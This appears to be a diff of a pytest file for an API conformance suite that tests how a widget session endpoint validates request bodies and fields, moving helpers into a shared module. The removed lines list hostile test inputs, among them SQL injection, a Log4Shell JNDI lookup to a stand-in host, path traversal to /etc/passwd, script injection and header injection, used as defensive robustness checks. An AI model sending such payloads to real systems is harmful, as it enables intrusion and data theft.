@@ -1,6 +1,5 @@
 """POST /widget/session, the request: required and optional fields, their types and values (session page)."""
 
-import json
 from dataclasses import replace
 
 import pytest
@@ -14,18 +13,12 @@ from rampcheck.suites.proof.refusals import (
 )
 from rampcheck.suites.proof.requests import OPTIONAL, REQUIRED
 
+from rampcheck.cases import HOSTILE_STRINGS, each, hostile_bodies, not_json, not_object, other_types, spellings
 from rampcheck.scenario import Accepted, Target
 
-WRONG_TYPES = {"a number": 100, "a fraction": 99.5, "a boolean": True, "null": None, "an array": ["100"],
-               "an object": {"value": "100"}}
 NOT_DECIMAL = ("abc", "1,5", "1.2.3", "0x10", "NaN", "12abc", "Infinity", "1 000", "--1", "1/2",
                ".", "-", "\uff11\uff10\uff10\u20ac")
 PERHAPS_DECIMAL = ("1e3", ".5", "5.", "+5", "007", " 5", "5 ")
-
-
-def each(prefix: str, names: tuple[str, ...]) -> list[object]:
-    """Gives a parameter for each field, marked with the field's own clause."""
-    return [pytest.param(name, id=name, marks=pytest.mark.verifies(f"{prefix}.{name}")) for name in names]
 
 
 @pytest.mark.parametrize("name", each("proof.session.request.required", REQUIRED))
@@ -37,7 +30,7 @@ def test_a_required_field_cannot_be_left_out(accepted: Accepted, name: str) -> N
 @pytest.mark.parametrize("name", each("proof.session.request.type", REQUIRED))
 def test_a_required_field_is_a_string(accepted: Accepted, name: str) -> None:
     """A required field of any other JSON type is refused."""
-    for value in WRONG_TYPES.values():
+    for value in (*other_types("string"), None):
         accepted.but(**{name: value}).is_refused(f"proof.session.request.type.{name}", WRONG_TYPE)
 
 
@@ -45,9 +38,8 @@ def test_a_required_field_is_a_string(accepted: Accepted, name: str) -> None:
 @pytest.mark.parametrize("name", OPTIONAL)
 def test_an_optional_field_is_a_string(accepted: Accepted, name: str) -> None:
     """An optional field of any other JSON type is refused; null is left open."""
-    for value in WRONG_TYPES.values():
-        if value is not None:
-            accepted.but(**{name: value}).is_refused("proof.session.request.type.optional", INVALID_REQUEST)
+    for value in other_types("string"):
+        accepted.but(**{name: value}).is_refused("proof.session.request.type.optional", INVALID_REQUEST)
 
 
 @pytest.mark.verifies("proof.session.request.empty")
@@ -84,18 +76,6 @@ def test_every_spelling_of_the_same_json_is_accepted(accepted: Accepted) -> None
     """White space, the order of members and escapes make no difference (RFC 8259)."""
     for what, body in spellings(accepted.request.json).items():
         accepted.with_body(body, what).is_accepted("proof.session.request.accepts")
-
-
-def spellings(value: dict[str, str]) -> dict[str, str]:
-    """Gives other spellings of the same JSON object, by what they differ in."""
-    def escaped(text: str) -> str:
-        return '"' + "".join(f"\\u{ord(letter):04x}" for letter in text) + '"'
-
-    return {
-        "indented JSON": json.dumps(value, indent=4), "white space around the JSON": f" \r\n\t{json.dumps(value)}\n",
-        "the members in reverse order": json.dumps(dict(reversed(value.items()))),
-        "every letter escaped": "{" + ",".join(f"{escaped(key)}:{escaped(text)}" for key, text in value.items()) + "}",
-    }
 
 
 @pytest.mark.creates_sessions
@@ -236,25 +216,15 @@ def test_an_address_sent_changes_nothing(accepted: Accepted, target: Target) -> 
 @pytest.mark.verifies("proof.session.request.malformed-json")
 def test_a_body_that_is_no_json_is_refused(accepted: Accepted) -> None:
     """A body that no JSON parser may take is refused."""
-    body = accepted.request.body
-    for what, wrong in {
-        "an empty body": b"", "JSON without its last byte": body[:-1], "JSON with a trailing comma": body[:-1] + b",}",
-        "a form": b"partner_user_id=user&amount=100", "JSON in single quotes": body.replace(b'"', b"'"),
-        "JSON followed by more": body + b"{}", "JSON with a NaN": body[:-1] + b',"note":NaN}',
-    }.items():
-        accepted.with_body(wrong, what).is_refused("proof.session.request.malformed-json", INVALID_REQUEST)
+    for what, body in not_json(accepted.request.body).items():
+        accepted.with_body(body, what).is_refused("proof.session.request.malformed-json", INVALID_REQUEST)
 
 
 @pytest.mark.verifies("proof.session.request.non-object")
 def test_a_body_that_is_no_object_is_refused(accepted: Accepted) -> None:
     """A JSON text other than an object is refused."""
-    body = accepted.request.body
-    for what, wrong in {
-        "an array": b"[" + body + b"]", "the object in a string": json.dumps(body.decode()).encode(),
-        "an empty array": b"[]", "a string": b'"session"', "a number": b"100",
-        "null": b"null", "true": b"true",
-    }.items():
-        accepted.with_body(wrong, f"{what} as the body").is_refused("proof.session.request.non-object", INVALID_REQUEST)
+    for what, body in not_object(accepted.request.body).items():
+        accepted.with_body(body, f"{what} as the body").is_refused("proof.session.request.non-object", INVALID_REQUEST)
 
 
 @pytest.mark.verifies("proof.session.request.email-format")
@@ -293,29 +263,11 @@ def test_no_hostile_string_breaks_the_target(accepted: Accepted, name: str) -> N
         accepted.but(**{name: value}).is_survived("proof.session.request.no-server-error")
 
 
-HOSTILE_STRINGS = (
-    "\x00", "a\x00b", "\ud800", "\U0001f4b8" * 50, "\u202etxet desrever", "\u200b", "'; DROP TABLE sessions; --",
-    "${jndi:ldap://rampcheck.example/x}", "{{7*7}}", "../../../etc/passwd", "<script>alert(1)</script>", "%s%n%x",
-    "\r\nX-Injected: yes", "x" * 10_000, "9" * 400, "1e400", "-0", "a" * 255 + "@example.com",
-)
-
-
 @pytest.mark.verifies("proof.session.request.no-server-error")
 def test_no_hostile_body_breaks_the_target(accepted: Accepted) -> None:
     """Deep nesting, repeated members, many members: the target answers below 500."""
-    body = accepted.request.body
-    inner = body[1:-1]
-    for what, hostile in {
-        "1,000 levels of nesting": body[:-1] + b',"note":' + b"[" * 1000 + b"]" * 1000 + b"}",
-        "a number of 5,000 digits": body[:-1] + b',"note":' + b"9" * 5000 + b"}",
-        "every member twice": b"{" + inner + b"," + inner + b"}",
-        "a member without a name": body[:-1] + b',"":""}',
-        "a `__proto__`": body[:-1] + b',"__proto__":{"type":"sell"}}',
-        "1,000 more members": body[:-1] + b"".join(b',"note%d":"x"' % n for n in range(1000)) + b"}",
-        "bytes that are no UTF-8": body.replace(b"rampcheck-", b"\xff\xfe", 1),
-        "a byte order mark": b"\xef\xbb\xbf" + body, "UTF-16": body.decode().encode("utf-16"),
-    }.items():
-        accepted.with_body(hostile, what).is_survived("proof.session.request.no-server-error")
+    for what, body in hostile_bodies(accepted.request.body).items():
+        accepted.with_body(body, what).is_survived("proof.session.request.no-server-error")
 
 
 @pytest.mark.verifies("proof.session.request.unknown-field")
